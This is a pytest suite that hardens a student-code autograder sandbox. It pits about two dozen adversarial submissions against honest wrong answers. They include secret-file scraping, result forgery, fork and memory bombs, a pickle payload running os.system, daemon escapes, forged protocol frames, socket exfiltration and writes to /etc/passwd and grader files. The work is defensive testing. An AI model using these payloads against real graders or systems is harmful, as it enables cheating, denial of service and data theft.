"""Adversarial submissions (threats.md T1-T20 at the sandbox level), each paired with an honest wrong
version: the attack never scores better, the grader survives, nothing is left running, and no canary
of a hidden path or of the grader's memory appears in anything that comes back."""
import os
from pathlib import Path
import socket
import struct

import numpy as np
import pytest

from grader.sandbox import Limits, Remote, fetch
from grader.sandbox.errors import StudentCrash, StudentError, StudentException, StudentTimeout

from_grader_memory = "CANARY-5f1c2a9e-hidden-answer"   # the same canary, held by the grader process
HONEST_WRONG = "import numpy as np\ndef f(x):\n    return x + 1\n"

ATTACKS = {
    # T1: read secrets (the hidden folder's path is given to the attack in SECRET)
    "read_secrets": """
import os
def f(x):
    found = []
    for top in (SECRET, "/autograder", "/tmp", "/var/tmp", "/root", os.path.expanduser("~")):
        for root, dirs, files in os.walk(top):
            for name in files:
                try:
                    with open(os.path.join(root, name), errors="replace") as fh:
                        found.append(fh.read(100000))
                except OSError as e:
                    found.append(str(e))
    return "\\n".join(found) + str(os.listdir(SECRET))
""",
    # T3: forge results (atexit rewrite, write then exit)
    "forge_results": """
import atexit, os
def rewrite():
    open(RESULTS, "w").write('{"score": 100}')
atexit.register(rewrite)
def f(x):
    try:
        rewrite()
    except OSError:
        pass
    os._exit(0)
""",
    # T4: aborting the run
    "sys_exit": "import sys\ndef f(x):\n    sys.exit(0)\n",
    "os_exit": "import os\ndef f(x):\n    os._exit(0)\n",
    "keyboard_interrupt": "def f(x):\n    raise KeyboardInterrupt\n",
    "sigkill_self": "import os\ndef f(x):\n    os.kill(os.getpid(), 9)\n",
    "segfault": "import ctypes\ndef f(x):\n    return ctypes.string_at(0)\n",
    "exit_at_import": "import os\nos._exit(3)\ndef f(x):\n    return 2 * x\n",
    # T5: monkeypatching numpy and builtins in the child
    "patch_numpy": """
import numpy as np, builtins, math
np.allclose = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
np.array_equal = lambda *a, **k: True
builtins.abs = lambda v: 0
math.isclose = lambda *a, **k: True
def f(x):
    return x + 1
""",
    # T6: special exceptions
    "skiptest": "import unittest\ndef f(x):\n    raise unittest.SkipTest('skip me')\n",
    "custom_baseexception": "class Done(BaseException):\n    pass\ndef f(x):\n    raise Done('passed')\n",
    "evil_str_raises": """
class E(Exception):
    def __str__(self):
        raise RuntimeError("no")
def f(x):
    raise E()
""",
    "evil_str_huge": """
class E(Exception):
    def __str__(self):
        return "A" * 50_000_000
def f(x):
    raise E()
""",
    # T7: evil return values
    "evil_scalar": """
class Evil:
    is_number = True
    def __abs__(self): return self
    def __rsub__(self, o): return self
    def __sub__(self, o): return self
    def __lt__(self, o): return True
    def __eq__(self, o): return True
    def __array__(self, dtype=None, copy=None):
        import numpy as np
        return np.zeros(3)
def f(x):
    return Evil()
""",
    "lying_subclass": """
import numpy as np
class Liar(np.ndarray):
    def __array_function__(self, *a, **k): return True
    def __array_ufunc__(self, *a, **k): return True
    def __eq__(self, o): return True
def f(x):
    return (x + 1).view(Liar)
""",
    # T8: frame walking, gc scan, importing the grader
    "introspect": """
import sys, gc
def f(x):
    seen = []
    frame = sys._getframe()
    while frame is not None:
        seen.append(repr(frame.f_locals)[:2000])
        frame = frame.f_back
    for obj in gc.get_objects():
        try:
            if "CANARY" in repr(obj)[:10000]:
                seen.append(repr(obj))
        except Exception:
            pass
    for name in ("grader", "reference", "grader.sandbox", "conftest"):
        try:
            __import__(name)
            seen.append("imported " + name)
        except BaseException as e:
            seen.append(type(e).__name__)
    return "\\n".join(seen)
""",
    # T9: time
    "while_true": "def f(x):\n    while True:\n        pass\n",
    "alarm_cancel": "import signal\ndef f(x):\n    signal.alarm(0)\n    signal.signal(signal.SIGALRM, signal.SIG_IGN)\n    while True:\n        pass\n",
    "sigterm_ignore": "import signal, time\ndef f(x):\n    signal.signal(signal.SIGTERM, signal.SIG_IGN)\n    time.sleep(1000)\n",
    "busy_threads": "import threading\ndef spin():\n    while True:\n        pass\ndef f(x):\n    for _ in range(4):\n        threading.Thread(target=spin, daemon=True).start()\n    spin()\n",
    # T10: fork bomb
    "fork_bomb": "import os\ndef f(x):\n    while True:\n        try:\n            os.fork()\n        except OSError:\n            pass\n",
    # T11: memory and disk
    "memory_bomb": "import numpy as np\ndef f(x):\n    return np.ones((10**5, 10**5))\n",
    "memory_leak": "def f(x):\n    hog = []\n    while True:\n        hog.append(bytearray(10**7))\n",
    "disk_fill": """
import os
def f(x):
    written = 0
    for i in range(10**6):
        try:
            with open(f"fill{i}.bin", "wb") as fh:
                while True:
                    fh.write(b"x" * 2**20)
                    written += 2**20
        except OSError:
            if i > 200:
                break
    return written
""",
    # T12: output flood
    "print_flood": "import os\ndef f(x):\n    while True:\n        print('A' * 10000)\n        os.write(2, b'B' * 10000)\n",
    # T13: payloads that run when unpickled
    "reduce_payload": """
import os
class P:
    def __reduce__(self):
        return (os.system, ("touch " + PAYLOAD,))
def f(x):
    return P()
""",
    # T14: escaping the process group and lingering
    "setsid_daemon": """
import os, time
def f(x):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(300)
        os._exit(0)
    time.sleep(0.2)
    return x + 1
""",
    # T15: fake protocol frames on stdout
    "fake_frames": """
import json, os, struct, sys
def f(x):
    frame = json.dumps({"id": 1, "ok": {"$a": ["float64", [3], 0]}, "nb": [24]}).encode()
    sys.stdout.write(frame.decode())
    os.write(1, struct.pack("!Q", len(frame)) + frame + b"\\0" * 24)
    print('{"score": 100, "tests": []}')
    print("Grade :=>> 100")
    return x + 1
""",
    # T19: network
    "network": """
import socket
def f(x):
    s = socket.create_connection(("127.0.0.1", PORT), timeout=1)
    s.sendall(b"exfiltrated")
    return x + 1
""",
    # T20: writing the grader's files
    "overwrite_grader": """
import os, numpy
def f(x):
    done = []
    for path in (GRADER_FILE, numpy.__file__, "/etc/passwd", os.path.join(GRADER_DIR, "sandbox", "worker", "wire.py")):
        try:
            with open(path, "a") as fh:
                fh.write("# owned\\n")
            done.append(path)
        except OSError:
            pass
    return x + 1
""",
}


def score(sb, x):
    """1 when the student's f(x) is exactly the right data (2x), else 0."""
    try:
        out = sb.root.f(x)
    except StudentError:
        return 0
    return int(type(out) is np.ndarray and out.shape == x.shape and bool(np.allclose(out, 2 * x)))


@pytest.fixture
def grader_file():
    path = f"/etc/grader-sandbox-test-{os.getpid()}"
    with open(path, "w") as fh:
        fh.write("grader's own file\n")
    os.chmod(path, 0o644)
    yield path
    os.unlink(path)


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_attack_never_beats_its_honest_pair(name, make, secret_dir, tmp_path, leaked, grader_file):
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    results = tmp_path / "results"
    results.mkdir()
    (results / "results.json").write_text('{"score": 0}')
    payload = tmp_path / "payload-ran"
    grader_dir = os.path.dirname(os.path.dirname(os.path.abspath(__import__("grader").__file__)))
    prelude = (f"SECRET = {str(secret_dir)!r}\nRESULTS = {str(results / 'results.json')!r}\n"
               f"PAYLOAD = {str(payload)!r}\nPORT = {listener.getsockname()[1]}\n"
               f"GRADER_FILE = {grader_file!r}\nGRADER_DIR = {grader_dir + '/grader'!r}\n")
    limits = Limits(call_seconds=1.5, submission_seconds=30, memory_mb=1024)
    x = np.arange(3.0)
    honest = make(HONEST_WRONG, limits=limits, hide=[secret_dir, results])
    attack = make(prelude + ATTACKS[name], limits=limits, hide=[secret_dir, results])
    baseline = score(honest, x)
    seen = []
    try:
        out = attack.root.f(x)
        seen.append(repr(fetch(out)) if type(out) is not Remote else repr(out))
        if name == "read_secrets":
            assert seen[-1].endswith("[]'") and "EXPECTED" not in seen[-1]
    except StudentError as exc:
        seen.append(str(exc))
    except Exception as exc:  # BadValue from fetch is a StudentError; anything else fails the test
        raise AssertionError(f"the grader broke: {exc!r}") from exc
    assert score(attack, x) <= baseline
    seen += attack.notes()
    attack.close()
    honest.close()
    text = "\n".join(seen)
    assert from_grader_memory not in text
    assert "imported grader" not in text and "imported reference" not in text
    left = leaked()
    assert not left, "processes of the sandbox are left"
    assert (results / "results.json").read_text() == '{"score": 0}'
    assert not payload.exists()
    with open(grader_file) as fh:
        assert fh.read() == "grader's own file\n"
    listener.settimeout(0.05)
    with pytest.raises(socket.timeout):
        listener.accept()
    listener.close()
    assert np.allclose(np.zeros(2), np.ones(2)) is False and abs(-1) == 1


def test_the_grader_keeps_working_after_crashes_and_timeouts(make):
    sb = make("import os, time\ndef die():\n    os._exit(4)\ndef hang():\n    time.sleep(100)\n"
              "def ok(x):\n    return 2 * x\n", limits=Limits(call_seconds=1, submission_seconds=30))
    with pytest.raises(StudentCrash, match="exit code 4"):
        sb.root.die()
    assert sb.root.ok(2) == 4
    with pytest.raises(StudentTimeout):
        sb.root.hang()
    assert sb.root.ok(3) == 6


def test_special_exceptions_are_reported_by_name_and_capped(make):
    sb = make(ATTACKS["evil_str_huge"] + ATTACKS["keyboard_interrupt"].replace("def f", "def g"))
    with pytest.raises(StudentException) as info:
        sb.root.f(1)
    assert info.value.type_name == "E" and len(str(info.value)) < 3000
    with pytest.raises(StudentException, match="KeyboardInterrupt"):
        sb.root.g(1)


def test_worker_runs_as_another_uid_and_cannot_read_hidden_paths(make, secret_dir):
    if os.geteuid() != 0:
        pytest.skip("isolation needs root")
    sb = make(f"import os\ndef who():\n    return os.getuid(), os.geteuid(), os.getgroups()\n"
              f"def read():\n    return open({str(secret_dir / 'answers.py')!r}).read()\n"
              f"def listing():\n    return os.listdir({str(secret_dir)!r})\n"
              f"def pids():\n    return sorted(int(p) for p in os.listdir('/proc') if p.isdigit())\n",
              hide=[secret_dir])
    uid, euid, groups = sb.root.who()
    assert uid != 0 and euid != 0 and groups == []
    assert sb.root.listing() == []
    with pytest.raises(StudentException, match="FileNotFoundError|PermissionError"):
        sb.root.read()
    assert sb.root.pids() == [1]


def test_the_source_checkout_and_its_git_history_are_hidden(make):
    """The checkout's .git holds every hidden test and solution; its tests/ and docs/ too."""
    if os.geteuid() != 0:
        pytest.skip("isolation needs root")
    checkout = Path(__file__).resolve().parents[2]
    sb = make("import os\ndef listing(path):\n    try:\n        return sorted(os.listdir(path))\n"
              "    except FileNotFoundError:\n        return []  # a checkout under /tmp is not even there\n")
    for folder in (".git", "tests", "assignments", "reference", "docs"):
        if (checkout / folder).is_dir():
            assert sb.root.listing(str(checkout / folder)) == [], folder


def test_numpy_and_conftest_in_the_submission_do_not_shadow(make, plan_for):
    evil = "allclose = lambda *a, **k: True\n__version__ = 'evil'\n"
    source = "import numpy as np\nimport sitecustomize\ndef f():\n    return np.__version__, np.ones(2)\n"
    plan = plan_for(source, extra={"numpy": {"file": "numpy.py", "source": evil, "package": False},
                                   "sitecustomize": {"file": "sitecustomize.py", "source": evil,
                                                     "package": False}})
    sb = make(source, plan=plan, files={"numpy.py": evil, "sitecustomize.py": "raise SystemExit",
                                        "conftest.py": "raise SystemExit", "evil.pth": "import os"})
    version, ones = sb.root.f()
    assert version == np.__version__ and ones.tolist() == [1.0, 1.0]


def test_setsid_daemon_is_killed_without_namespaces(make):
    sb = make("import os, time\ndef f():\n    r, w = os.pipe()\n    if os.fork() == 0:\n"
              "        os.setsid()\n        if os.fork() == 0:\n            os.write(w, str(os.getpid()).encode())\n"
              "            time.sleep(300)\n        os._exit(0)\n    return int(os.read(r, 20))\n",
              isolation=False)
    daemon = sb.root.f()
    os.kill(daemon, 0)
    sb.close()
    with pytest.raises(ProcessLookupError):
        os.kill(daemon, 0)


def test_forged_protocol_frame_on_the_channel_is_a_crash_not_a_result(make):
    sb = make("import os, json, stat, struct\ndef f(x):\n"
              "    for fd in range(3, 64):\n        try:\n            if stat.S_ISSOCK(os.fstat(fd).st_mode):\n"
              "                frame = json.dumps({'id': 999, 'ok': 1, 'nb': []}).encode()\n"
              "                os.write(fd, struct.pack('!Q', len(frame)) + frame)\n"
              "        except OSError:\n            pass\n    return x + 1\n"
              "def g(x):\n    return 2 * x\n")
    with pytest.raises(StudentCrash, match="protocol"):
        sb.root.f(1)
    assert sb.root.g(2) == 4


def test_hidden_paths_may_be_symlinks_files_or_absent(make, secret_dir, tmp_path):
    link = tmp_path / "link-to-secret"
    link.symlink_to(secret_dir)
    sb = make("import os\ndef f(p):\n    return open(p).read() if os.path.isfile(p) else os.listdir(p)\n",
              hide=[link, secret_dir / "answers.py", tmp_path / "absent"])
    assert sb.root.f(str(secret_dir)) == []


@pytest.mark.parametrize("isolation", [None, False])
def test_a_forked_child_returning_to_the_worker_loop_does_not_answer(make, isolation):
    sb = make("import os, time\ndef f(x):\n    if os.fork() == 0:\n        return x + 100\n"
              "    time.sleep(0.2)\n    return x + 1\ndef g(x):\n    return 2 * x\n", isolation=isolation)
    assert sb.root.f(1) == 2
    assert sb.root.g(2) == 4 and sb.root.g(3) == 6


def test_world_writable_folders_outside_the_sandbox_are_read_only(make, secret_dir):
    if os.geteuid() != 0:
        pytest.skip("isolation needs root")
    open_dir = secret_dir.parent / "open"
    open_dir.mkdir()
    os.chmod(open_dir, 0o777)
    sb = make(f"def f():\n    open({str(open_dir / 'results.json')!r}, 'w').write('forged')\n"
              "def g():\n    open('/tmp/scratch', 'w').write('ok')\n    open('/dev/null', 'w').write('x')\n"
              "    return open('/tmp/scratch').read()\n")
    with pytest.raises(StudentException, match="Read-only file system"):
        sb.root.f()
    assert sb.root.g() == "ok"
    assert list(open_dir.iterdir()) == []
